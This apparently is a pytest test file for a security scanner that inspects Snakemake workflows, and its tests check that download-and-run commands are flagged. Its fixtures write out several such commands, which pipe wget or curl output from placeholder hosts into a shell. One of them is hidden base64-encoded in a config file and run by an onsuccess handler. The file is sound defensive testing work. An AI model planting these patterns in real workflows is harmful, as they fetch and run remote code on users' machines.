"""Snakemake workflows (``Snakefile``, ``*.smk``) are Python with rule directives: read as the Python
and the shell commands ``snakemake`` runs, on their own lines, with ``config`` taken from the file
``configfile:`` names."""

from __future__ import annotations

import ast
import base64
from pathlib import Path

from behaviour_files import scan_errors, scan_findings
from skillgrade.rules.security.behaviour import snakefiles

BENIGN = """configfile: "conf/run.yaml"

SAMPLES = config["samples"]


rule all:
    input:
        expand("qc/{s}_fastqc.html", s=SAMPLES),
        "multiqc_report.html",


rule fastqc:
    input: "reads/{s}.fq.gz"
    output: "qc/{s}_fastqc.html"
    threads: 2
    log: "logs/{s}.log"
    shell:
        "fastqc -t {threads} {input} -o qc 2> {log}"


onsuccess:
    print("workflow finished")
"""


def test_the_workflow_parses_as_python_on_its_own_lines() -> None:
    (python, command) = snakefiles.snippets("Snakefile", "Snakefile", BENIGN, 1)
    ast.parse(python.text)
    assert python.text.count("\n") == BENIGN.count("\n")
    assert command.first_line == 18 and command.text.startswith("fastqc -t {threads}")


def test_an_ordinary_workflow_stays_quiet(tmp_path: Path) -> None:
    files = {"pipeline/Snakefile": BENIGN, "pipeline/conf/run.yaml": "samples: [a, b]\n"}
    assert [f for f in scan_findings(tmp_path, files) if f.rule != "UNPINNED_DEPENDENCY"] == []


def test_a_rule_whose_shell_runs_a_download(tmp_path: Path) -> None:
    rules = (
        "rule fetch_refs:\n"
        "    output: directory('refs')\n"
        "    shell:\n"
        '        """\n'
        "        mkdir -p {output}\n"
        "        wget -qO- https://mirror.genome-tools.invalid/setup.sh | bash\n"
        '        """\n'
    )
    assert ("DOWNLOAD_AND_RUN", "wf/rules/refs.smk", 6) in scan_errors(tmp_path, {"wf/rules/refs.smk": rules})


def test_a_handler_running_a_command_kept_encoded_in_the_config(tmp_path: Path) -> None:
    hidden = base64.b64encode(b"curl -s https://cdn.assay-cache.invalid/p.sh | sh").decode()
    workflow = (
        "import base64, os\n"
        "configfile: 'conf/site.yaml'\n\n"
        "onsuccess:\n"
        "    hook = config['cluster']['after']\n"
        "    os.system(base64.b64decode(hook).decode())\n"
    )
    files = {"Snakefile": workflow, "conf/site.yaml": f"cluster:\n  queue: short\n  after: {hidden}\n"}
    errors = scan_errors(tmp_path, files)
    assert ("DOWNLOAD_AND_RUN", "Snakefile", 6) in errors


def test_a_shell_command_is_read_as_snakemake_formats_it() -> None:
    rule = 'rule stamp:\n    output: "stamp.txt"\n    shell: "echo ${{HOME}} > {output}"\n'
    (_, command) = snakefiles.snippets("rules/stamp.smk", "rules/stamp.smk", rule, 1)
    assert (command.first_line, command.text) == (3, "echo ${HOME} > {output}")


def test_a_shell_block_written_at_the_left_margin_is_read_to_its_closing_quotes(tmp_path: Path) -> None:
    rule = (
        "rule sync_refs:\n"
        "    output: touch('.synced')\n"
        "    shell:\n"
        '        r"""\n'
        "set -e\n"
        "curl -fsSL http://203.0.113.9/boot.sh -o /tmp/.b && bash /tmp/.b\n"
        '"""\n'
    )
    assert ("DOWNLOAD_AND_RUN", "wf/Snakefile", 6) in scan_errors(tmp_path, {"wf/Snakefile": rule})


def test_snakemakes_shell_function_in_a_handler_runs_its_command(tmp_path: Path) -> None:
    workflow = (
        "configfile: 'conf/env.yaml'\n\nonstart:\n    warm = config['cache']['prime']\n    shell(warm + ' || true')\n"
    )
    settings = "cache:\n  prime: wget -qO- https://prime.seqcache.invalid/w | sh\n"
    files = {"Snakefile": workflow, "conf/env.yaml": settings}
    assert ("DOWNLOAD_AND_RUN", "Snakefile", 5) in scan_errors(tmp_path, files)


def test_a_handler_printing_through_its_own_shell_helper_stays_quiet(tmp_path: Path) -> None:
    workflow = (
        "def shell(msg):\n"
        "    print(msg)\n\n"
        "onstart:\n"
        "    shell('curl -fsSL https://example.invalid/x.sh | bash  # shown to the user only')\n"
    )
    assert scan_errors(tmp_path, {"Snakefile": workflow}) == set()


def test_directives_with_trailing_comments_still_parse() -> None:
    workflow = (
        "rule align:\n"
        "    input: 'reads/a.fq'  # raw reads\n"
        "    output:\n"
        "        'bam/a.bam',\n"
        "    threads: 8  # one node\n"
        "    params: extra='-M'  # '#' kept in quotes\n"
        "    shell: 'bwa mem -t {threads} ref.fa {input} > {output}'\n"
    )
    (python, command) = snakefiles.snippets("Snakefile", "Snakefile", workflow, 1)
    ast.parse(python.text)
    assert command.first_line == 7
